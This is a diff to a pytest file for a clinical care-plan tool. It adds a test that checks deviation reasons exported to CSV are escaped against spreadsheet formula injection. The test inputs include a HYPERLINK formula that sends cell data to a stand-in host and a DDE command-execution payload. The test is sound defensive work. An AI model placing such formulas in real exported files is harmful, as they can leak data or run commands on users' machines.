@@ -20,7 +20,7 @@ CLINICIAN = Actor("dr-ng", "clinician")
 REASON = "Patient could only come Wednesday morning"
 
 
-def deviating_journey() -> tuple[str, int, datetime]:
+def deviating_journey(reason: str = REASON) -> tuple[str, int, datetime]:
     """A journey with a second infusion 41 hours after the first, recorded with a deviation."""
     app = build_app()
     start = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(days=10)
@@ -41,7 +41,7 @@ def deviating_journey() -> tuple[str, int, datetime]:
         record("DischargeAssessed", watched)
         second = first + timedelta(hours=41)
         record("VitalsRecorded", second - timedelta(minutes=40))
-        version = record("InfusionCompleted", second, deviation=REASON)
+        version = record("InfusionCompleted", second, deviation=reason)
     finally:
         app.close()
     return str(journey), version, second
@@ -71,6 +71,14 @@ def test_the_report_as_csv_and_since_filters(capsys: pytest.CaptureFixture[str],
     ]
     later = careplan(capsys, "report", "deviations", "--csv", "--since", (at + timedelta(seconds=1)).isoformat())
     assert list(csv.reader(io.StringIO(later.out))) == [rows[0]]
+
+
+@pytest.mark.parametrize("reason", ['=HYPERLINK("https://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"])
+def test_a_reason_a_spreadsheet_would_run_is_written_inert(capsys: pytest.CaptureFixture[str], store: str, reason: str) -> None:
+    deviating_journey(reason)
+    ran = careplan(capsys, "report", "deviations", "--csv")
+    [_, row] = list(csv.reader(io.StringIO(ran.out)))
+    assert row[5] == "'" + reason, "a leading quote keeps the cell text in every spreadsheet"
 
 
 def test_a_deviation_marked_entered_in_error_says_so(capsys: pytest.CaptureFixture[str], store: str) -> None:
